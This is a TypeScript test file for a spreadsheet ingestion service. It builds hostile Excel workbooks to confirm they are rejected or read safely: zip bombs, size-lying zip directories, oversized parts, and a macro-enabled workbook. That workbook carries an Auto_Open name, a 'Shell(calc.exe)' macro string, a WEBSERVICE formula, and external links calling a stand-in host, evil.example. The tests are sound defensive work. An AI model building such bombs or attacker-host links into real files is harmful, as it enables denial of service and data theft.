// Hostile workbooks, built at run time (nothing MB-sized is committed): zip bombs, and workbooks
// carrying macros, external links and embedded objects.
import ExcelJS from 'exceljs';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { contracts } from '../../functions/domain/contracts/index.ts';
import { bytesSource } from '../../functions/domain/formats/index.ts';
import { readCurated } from '../../functions/lake/curated.ts';
import { monthlyHeader } from '../helpers/ingest.ts';
import type { MemoryObjectStore } from '../helpers/memory-store.ts';
import {
  buildZip,
  errors,
  expectFileRejected,
  expectKept,
  ingest,
  lakeWithRegister,
  liveBytes,
  monthlyRecord,
  randomBytes,
  repeated,
  sampledSource,
  unzip,
  type ZipPart,
} from './helpers.ts';

// Counts the bytes every part inflates to, so a test can tell how much was held, not only RSS.
const inflated = vi.hoisted(() => ({ bytes: 0 }));
vi.mock('../../functions/domain/formats/inflate.ts', async (importOriginal) => {
  const actual = await importOriginal<typeof import('../../functions/domain/formats/inflate.ts')>();
  return {
    ...actual,
    async *inflateRaw(compressed: Parameters<typeof actual.inflateRaw>[0]) {
      for await (const chunk of actual.inflateRaw(compressed)) {
        inflated.bytes += chunk.length;
        yield chunk;
      }
    },
  };
});

let store: MemoryObjectStore;
beforeEach(async () => {
  store = await lakeWithRegister();
  inflated.bytes = 0;
});

const MB = 1024 * 1024;
const columns = monthlyHeader.split(',');

/** An exceljs workbook with a monthly-return sheet of the given rows (cell values by column). */
async function workbookParts(rows: Record<string, unknown>[]): Promise<ZipPart[]> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('monthly-return');
  ws.addRow(columns);
  for (const row of rows) ws.addRow(columns.map((c) => row[c] ?? null));
  const parts = await unzip(new Uint8Array(await wb.xlsx.writeBuffer()));
  return parts.filter((p) => !p.name.endsWith('/')).map((p) => ({ name: p.name, data: p.data }));
}

const text = (part: ZipPart | undefined) => new TextDecoder().decode(part!.data as Uint8Array);
const replacePart = (parts: ZipPart[], name: string, edit: (xml: string) => string): ZipPart[] =>
  parts.map((p) => (p.name === name ? { name, data: new TextEncoder().encode(edit(text(p))) } : p));

/**
 * A zip bomb: part `name` of a good workbook padded with `padMB` MB of spaces (legal XML
 * whitespace), which deflates about 1000:1. `claimMB` makes the directory lie about its size.
 */
async function bomb(name: string, padMB: number, claimMB?: number): Promise<Uint8Array> {
  const parts = await workbookParts([monthlyRecord()]);
  const spaces = new Uint8Array(MB).fill(0x20);
  return buildZip(
    parts.map((p) => {
      if (p.name !== name) return p;
      const xml = text(p);
      const cut = xml.indexOf('>', xml.indexOf('<', xml.indexOf('?>') + 2)) + 1; // after the root tag
      return {
        name,
        data: repeated(xml.slice(0, cut), spaces, padMB, xml.slice(cut)),
        level: 1,
        ...(claimMB === undefined ? {} : { claimSize: claimMB * MB }),
      };
    }),
  );
}

describe('hostile workbooks: zip bombs', () => {
  it('a sheet that would unzip to 210 MB is rejected from the zip directory, naming the 200 MB limit, before inflating', async () => {
    const bytes = await bomb('xl/worksheets/sheet1.xml', 210);
    expect(bytes.length).toBeLessThan(2 * MB);
    const before = await liveBytes();
    const source = sampledSource(bytesSource('bomb.xlsx', bytes), 64 * 1024);
    const result = await ingest(store, 'bomb.xlsx', source);
    expectFileRejected(
      store,
      result,
      bytes,
      'SHEET_TOO_LARGE',
      "The workbook's sheet would be larger than 200 MB once unzipped, the most a sheet may be",
    );
    // Generous bound: inflating the sheet would have cost 210 MB.
    expect((await liveBytes()) - before).toBeLessThan(64 * MB);
  });

  it('a sheet whose directory claims 1 MB but inflates to 210 MB is stopped as it streams, with bounded memory', async () => {
    const bytes = await bomb('xl/worksheets/sheet1.xml', 210, 1);
    const before = await liveBytes();
    const source = sampledSource(bytesSource('liar.xlsx', bytes), 64 * 1024);
    const result = await ingest(store, 'liar.xlsx', source);
    expectFileRejected(store, result, bytes, 'MALFORMED', 'not a readable Excel workbook', 'damaged');
    expect(Math.max(source.peak(), await liveBytes()) - before).toBeLessThan(64 * MB);
  });

  it('a styles part that would unzip to 210 MB is rejected too (every part is bounded, not only sheets)', async () => {
    const bytes = await bomb('xl/styles.xml', 210);
    const before = await liveBytes();
    const source = sampledSource(bytesSource('styles-bomb.xlsx', bytes), 64 * 1024);
    const result = await ingest(store, 'styles-bomb.xlsx', source);
    expectFileRejected(store, result, bytes, 'SHEET_TOO_LARGE', 'would be larger than');
    expect(Math.max(source.peak(), await liveBytes()) - before).toBeLessThan(64 * MB);
  });

  it('a 40 MB styles part, within the sheet limit, is still too large to be read whole', async () => {
    const bytes = await bomb('xl/styles.xml', 40);
    const result = await ingest(store, 'styles-40.xlsx', bytes);
    expectFileRejected(
      store,
      result,
      bytes,
      'SHEET_TOO_LARGE',
      "The workbook's styles would be larger than 16 MB",
    );
  });

  it('a configured lower limit for parts read whole applies: a 3 MB styles part against 1 MB', async () => {
    const bytes = await bomb('xl/styles.xml', 3);
    const result = await ingest(store, 'styles-3.xlsx', bytes, { limits: { maxXlsxWholePartBytes: 1 * MB } });
    expectFileRejected(
      store,
      result,
      bytes,
      'SHEET_TOO_LARGE',
      "The workbook's styles would be larger than 1 MB",
    );
  });

  /** A good workbook whose shared strings gain `mb` MB of one-letter strings (kept valid). */
  async function tinyStrings(mb: number, claimMB?: number): Promise<Uint8Array> {
    const parts = await workbookParts([monthlyRecord()]);
    const si = '<si><t>x</t></si>';
    const chunk = new TextEncoder().encode(si.repeat(Math.floor(MB / si.length)));
    const sst = parts.find((p) => p.name === 'xl/sharedStrings.xml');
    expect(sst).toBeDefined();
    const xml = text(sst);
    const end = xml.lastIndexOf('</sst>');
    return buildZip(
      parts.map((p) =>
        p === sst
          ? {
              name: p.name,
              data: repeated(xml.slice(0, end), chunk, mb, xml.slice(end)),
              ...(claimMB === undefined ? {} : { claimSize: claimMB * MB }),
            }
          : p,
      ),
    );
  }

  it('a shared-strings part of 3 MB of tiny strings is read whole, so it obeys the 1 MB whole-part limit: rejected before inflating', async () => {
    const bytes = await tinyStrings(3);
    const result = await ingest(store, 'strings-3.xlsx', bytes, {
      limits: { maxXlsxWholePartBytes: 1 * MB },
    });
    expectFileRejected(
      store,
      result,
      bytes,
      'SHEET_TOO_LARGE',
      "The workbook's shared strings (its table of text values) would be larger than 1 MB once unzipped",
    );
    // Judged from the zip directory: only the small parts were inflated.
    expect(inflated.bytes).toBeLessThan(64 * 1024);
    // The limit, nothing else, rejected it: under a 4 MB limit the same file is read (in a fresh
    // lake, as the same bytes sent again would be answered from the first outcome).
    const within = await ingest(await lakeWithRegister(), 'strings-3.xlsx', bytes, {
      limits: { maxXlsxWholePartBytes: 4 * MB },
    });
    expect(within.submission.file_error).toBeNull();
    expect(within.submission.status).toBe('accepted');
  });

  it('a shared-strings part whose directory claims 0.5 MB but inflates to 3 MB is stopped as it inflates, past the claim', async () => {
    const bytes = await tinyStrings(3, 0.5);
    const result = await ingest(store, 'strings-liar.xlsx', bytes, {
      limits: { maxXlsxWholePartBytes: 1 * MB },
    });
    expectFileRejected(store, result, bytes, 'MALFORMED', 'not a readable Excel workbook', 'damaged');
    // Stopped within one inflated piece of the claim, well before the 1 MB limit.
    expect(inflated.bytes).toBeGreaterThan(0.5 * MB);
    expect(inflated.bytes).toBeLessThan(1 * MB);
  });

  it('a configured lower sheet limit applies: a 3 MB sheet against a 2 MB limit', async () => {
    const bytes = await bomb('xl/worksheets/sheet1.xml', 3);
    const result = await ingest(store, 'three.xlsx', bytes, { limits: { maxXlsxSheetBytes: 2 * MB } });
    expectFileRejected(store, result, bytes, 'SHEET_TOO_LARGE', 'larger than 2 MB once unzipped');
  });
});

describe('hostile workbooks: macros, external links, embedded objects', () => {
  it('an .xlsm with a VBA project, external links and an OLE object is read as cached values only', async () => {
    let parts = await workbookParts([
      monthlyRecord({
        // Cached results are what is read; the formulas are never evaluated (1+1 is not 800).
        service_code: { formula: 'WEBSERVICE("http://evil.example/x")', result: 'HC' },
        calls_scheduled: { formula: '[1]Sheet1!A1', result: 400 },
        hours_commissioned: { formula: '1+1', result: 800 },
      }),
      // A formula saved without a cached result has no value: it is not worked out.
      monthlyRecord({ service_code: 'SIS', calls_scheduled: { formula: '[1]Sheet1!A2' } }),
    ]);
    const ns = 'http://schemas.openxmlformats.org';
    parts = replacePart(parts, '[Content_Types].xml', (xml) =>
      xml
        .replace('spreadsheetml.sheet.main+xml', 'ms-excel.sheet.macroEnabled.main+xml')
        .replace(
          '</Types>',
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
        )
        .replace(
          'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
          'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
        ),
    );
    parts = replacePart(parts, 'xl/_rels/workbook.xml.rels', (xml) =>
      xml.replace(
        '</Relationships>',
        `<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId91" Type="${ns}/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
      ),
    );
    parts = replacePart(parts, 'xl/workbook.xml', (xml) =>
      xml.replace(
        '</sheets>',
        '</sheets><externalReferences><externalReference r:id="rId91"/></externalReferences><definedNames><definedName name="Auto_Open">[1]Sheet1!$A$1</definedName></definedNames>',
      ),
    );
    const macro = randomBytes(4096);
    macro.set(new TextEncoder().encode('Attribute VB_Name = "AutoOpen" Shell("calc.exe")'), 512);
    parts.push(
      { name: 'xl/vbaProject.bin', data: macro },
      { name: 'xl/embeddings/oleObject1.bin', data: randomBytes(2048, 7) },
      {
        name: 'xl/externalLinks/externalLink1.xml',
        data: new TextEncoder().encode(
          `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="${ns}/spreadsheetml/2006/main" xmlns:r="${ns}/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>999</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`,
        ),
      },
      {
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        data: new TextEncoder().encode(
          `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${ns}/package/2006/relationships"><Relationship Id="rId1" Type="${ns}/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil.example\\share\\secret.xlsx" TargetMode="External"/><Relationship Id="rId2" Type="${ns}/officeDocument/2006/relationships/hyperlink" Target="http://evil.example/x.xlsx" TargetMode="External"/></Relationships>`,
        ),
      },
    );
    const bytes = await buildZip(parts);
    const { submission, report } = await ingest(store, 'return.xlsm', bytes);
    expect(submission).toMatchObject({
      format: 'xlsx',
      status: 'partially_accepted',
      rows_read: 2,
      rows_accepted: 1,
      rows_rejected: 1,
    });
    expect(errors(report.problems)).toEqual([
      {
        severity: 'error',
        row: 3,
        column: 'calls_scheduled',
        value: null,
        message: 'calls_scheduled is required but is empty',
      },
    ]);
    const [row] = await readCurated(store, contracts['monthly-return']);
    expect(row).toMatchObject({
      service_code: 'HC',
      calls_scheduled: 400,
      hours_commissioned: 800,
      row_number: 2,
    });
    // The macro and the linked workbooks are kept in the raw copy, untouched, and nowhere else.
    expectKept(store, submission, bytes);
  });
});

describe('hostile workbooks: wide', () => {
  it('a header of 501 columns is rejected naming the 500-column limit', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('monthly-return').addRow([...columns, ...Array.from({ length: 481 }, (_, i) => `x${i}`)]);
    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
    const result = await ingest(store, 'wide.xlsx', bytes);
    expectFileRejected(
      store,
      result,
      bytes,
      'TOO_MANY_COLUMNS',
      'The header has 501 columns, more than the limit of 500.',
    );
  });

  it('cells to the right of the last named column are ignored with a warning (the raw copy keeps them)', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('monthly-return');
    ws.addRow(columns);
    ws.addRow([...columns.map((c) => monthlyRecord()[c]), null, 'a note', 42]);
    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
    const { submission, report } = await ingest(store, 'notes.xlsx', bytes);
    expect(submission).toMatchObject({ status: 'accepted_with_warnings', rows_accepted: 1 });
    expect(report.problems).toEqual([
      {
        severity: 'warning',
        row: null,
        column: null,
        value: null,
        message:
          'Row 2 (and maybe others) has values to the right of the last named column; they were ignored.',
      },
    ]);
    expectKept(store, submission, bytes);
  });
});
